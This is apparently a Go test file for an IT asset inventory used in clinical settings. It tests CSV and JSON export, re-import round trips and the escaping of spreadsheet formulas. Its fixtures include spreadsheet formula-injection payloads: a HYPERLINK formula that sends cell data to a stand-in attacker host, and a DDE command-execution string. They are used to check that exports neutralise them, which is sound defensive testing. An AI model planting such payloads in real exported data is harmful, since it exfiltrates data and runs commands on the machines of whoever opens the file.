package inventory

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

func TestCSVHeaderIsStable(t *testing.T) {
	// Changing this list breaks users' scripts and saved spreadsheets:
	// only append, and say so in the release notes.
	want := []string{"id", "name", "type", "hostname", "make", "model", "serial", "asset_tag", "os_name",
		"os_version", "firmware_version", "cpe", "ip_addresses", "mac_address", "site", "location",
		"network_zone", "exposure", "business_owner", "technical_owner", "data_classification",
		"handles_phi", "criticality", "patient_safety_impact", "regulated_device",
		"vendor_patch_restriction", "vendor_patch_notes", "maintenance_window", "patch_source",
		"support_status", "end_of_support", "last_patched_at", "pending_updates", "purchase_ref",
		"purchased_at", "last_seen_at", "source", "tags", "groups", "notes", "software_count",
		"created_at", "updated_at", "revision"}
	if diff := cmp.Diff(want, CSVHeader()); diff != "" {
		t.Errorf("CSVHeader (-want +got):\n%s", diff)
	}
}

func TestEscapeCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"plain", "plain"},
		{"", ""},
		{"=1+1", "'=1+1"},
		{"+cmd", "'+cmd"},
		{"-5", "'-5"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=x", "'\t=x"},
		{"'=x", "''=x"},
		{"'quoted", "'quoted"},
		{"a=b", "a=b"},
	} {
		if got := escapeCell(tc.in); got != tc.want {
			t.Errorf("escapeCell(%q) = %q; want %q", tc.in, got, tc.want)
		}
		if got := unescapeCell(escapeCell(tc.in)); got != tc.in {
			t.Errorf("unescapeCell(escapeCell(%q)) = %q", tc.in, got)
		}
	}
}

func FuzzEscapeCell(f *testing.F) {
	for _, s := range []string{"", "=x", "''=x", "'", "-", "a"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		e := escapeCell(s)
		if got := unescapeCell(e); got != s {
			t.Fatalf("unescapeCell(escapeCell(%q)) = %q", s, got)
		}
		if e != "" && formulaStart(e[0]) {
			t.Fatalf("escapeCell(%q) = %q starts a formula", s, e)
		}
	})
}

// richAssets returns assets exercising every field, including values a
// spreadsheet would run as formulas.
func richAssets(t *testing.T, svc *Service) []Asset {
	t.Helper()
	ctx := context.Background()
	sites, _ := svc.Sites(ctx)
	groups, _ := svc.Groups(ctx)
	d := func(y int, m time.Month, day int) *time.Time {
		t := time.Date(y, m, day, 0, 0, 0, 0, time.UTC)
		return &t
	}
	seen := time.Date(2026, 2, 27, 8, 15, 30, 123456000, time.UTC)
	in := []Asset{
		{Name: "LIS-01", Type: TypeServer, Hostname: "lis01.clinic.local", Make: "Dell", Model: "PowerEdge R650",
			Serial: "7HT3KV3", AssetTag: "LAB-00210", OSName: "Windows Server", OSVersion: "2022", FirmwareVersion: "1.9.2",
			CPE: "cpe:2.3:o:microsoft:windows_server_2022:-:*:*:*:*:*:*:*", IPAddresses: []string{"10.20.0.5", "fe80::5"},
			MACAddress: "00:1a:2b:3c:4d:5e", SiteID: sites[1].ID, Location: "Server room, rack 2", NetworkZone: "lab-vlan-20",
			Exposure: ExposureClinicalVLAN, BusinessOwner: "Lab Director", TechnicalOwner: "IT Manager", HandlesPHI: true,
			Criticality: LevelCritical, SafetyImpact: SafetyHigh, MaintenanceWindow: "Sun 02:00-04:00", PatchSource: "WSUS",
			SupportStatus: SupportSupported, EndOfSupport: d(2031, 10, 14), LastPatchedAt: d(2026, 2, 10), PendingUpdates: 3,
			PurchaseRef: "PO-2023-0801", PurchasedAt: d(2023, 8, 2), LastSeenAt: &seen, Source: SourcePurchase,
			Tags: []string{"lis", "tier1"}, Groups: []string{groups[0].ID},
			Notes:    "Runs the LIS.\nSecond line, with \"quotes\"; and semicolons.",
			Software: []Software{{Name: "openssl", Version: "3.0.15"}}},
		{Name: "Sysmex XN-1000", Type: TypeAnalyzer, Make: "Sysmex", Model: "XN-1000", Serial: "XN1000-21457",
			SiteID: sites[1].ID, RegulatedDevice: true, Restriction: RestrictionVendorOnly,
			RestrictionNotes: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", SupportStatus: SupportEnded,
			EndOfSupport: d(2025, 12, 31), DataClass: ClassConfidential, SafetyImpact: SafetyDirect, Source: SourceManual},
		{Name: "+cmd|' /C calc'!A0", Type: TypeEndpoint, Hostname: "@front-desk", Model: "-5", Notes: "'=already quoted",
			Exposure: ExposureInternet, Criticality: LevelLow, Source: SourceDiscovery, LastSeenAt: d(2025, 1, 1)},
		{Name: "Bare minimum"},
	}
	var out []Asset
	for _, a := range in {
		created, err := svc.CreateAsset(ctx, testActor, a)
		if err != nil {
			t.Fatalf("CreateAsset(%s): %v", a.Name, err)
		}
		out = append(out, created)
	}
	return out
}

func TestWriteCSVEscapesFormulas(t *testing.T) {
	svc, fs := newTestService(t)
	richAssets(t, svc)
	var buf bytes.Buffer
	if err := svc.ExportCSV(context.Background(), &buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("export is not valid CSV: %v", err)
	}
	if len(recs) != len(fs.assets)+1 {
		t.Fatalf("%d records; want header + %d", len(recs), len(fs.assets))
	}
	for _, r := range recs[1:] {
		for i, c := range r {
			if c != "" && formulaStart(c[0]) {
				t.Errorf("column %s cell %q starts a formula", CSVHeader()[i], c)
			}
		}
	}
}

// TestExportReimport: an export imported as kind inventory into a fresh
// inventory reproduces the assets, apart from IDs, timestamps and software
// (which the CSV only counts).
func TestExportReimport(t *testing.T) {
	ctx := context.Background()
	src, srcStore := newTestService(t)
	richAssets(t, src)
	var buf bytes.Buffer
	if err := src.ExportCSV(ctx, &buf); err != nil {
		t.Fatal(err)
	}
	dst, dstStore := newTestService(t)
	rep, err := dst.ImportCSV(ctx, testActor, bytes.NewReader(buf.Bytes()), ImportOptions{Kind: ImportInventory})
	if err != nil {
		t.Fatalf("re-import: %v %+v\n%s", err, rep.Errors, buf.String())
	}
	if rep.Created != len(srcStore.assets) {
		t.Errorf("created %d; want %d", rep.Created, len(srcStore.assets))
	}
	want, _ := src.store.AllAssets(ctx)
	got, _ := dst.store.AllAssets(ctx)
	byName := func(s *fakeStore, as []Asset) []Asset {
		d := newDirectory(s.sites, s.groups)
		for i := range as {
			as[i].SiteID = d.siteName(as[i].SiteID)
			for j, g := range as[i].Groups {
				as[i].Groups[j] = d.groupName(g)
			}
		}
		return as
	}
	opts := cmp.Options{ignoreIdentity, cmpopts.IgnoreFields(Asset{}, "Software"), cmpopts.EquateEmpty()}
	if diff := cmp.Diff(byName(srcStore, want), byName(dstStore, got), opts); diff != "" {
		t.Errorf("round trip (-exported +imported):\n%s", diff)
	}

	// Importing the export back into its own inventory matches every row by
	// id and changes nothing.
	rep, err = src.ImportCSV(ctx, testActor, bytes.NewReader(buf.Bytes()), ImportOptions{Kind: ImportInventory})
	if err != nil || rep.Unchanged != len(want) {
		t.Errorf("self re-import: err=%v unchanged=%d; want %d (preview %+v)", err, rep.Unchanged, len(want), rep.Preview)
	}
}

func TestWriteJSON(t *testing.T) {
	svc, _ := newTestService(t)
	assets := richAssets(t, svc)
	var buf bytes.Buffer
	if err := svc.ExportJSON(context.Background(), &buf); err != nil {
		t.Fatal(err)
	}
	var got []Asset
	if err := json.Unmarshal(buf.Bytes(), &got); err != nil {
		t.Fatalf("export is not JSON: %v\n%s", err, buf.String())
	}
	want, _ := svc.store.AllAssets(context.Background())
	if diff := cmp.Diff(want, got, cmpopts.EquateEmpty()); diff != "" {
		t.Errorf("JSON export (-want +got):\n%s", diff)
	}
	software := 0
	for _, a := range got {
		software += len(a.Software)
	}
	if len(got) != len(assets) || software != 1 {
		t.Errorf("JSON export has %d assets and %d software entries; want %d and 1", len(got), software, len(assets))
	}
	buf.Reset()
	if err := WriteJSON(&buf, nil); err != nil || strings.TrimSpace(buf.String()) != "[]" {
		t.Errorf("WriteJSON(nil) = %q, %v; want []", buf.String(), err)
	}
}
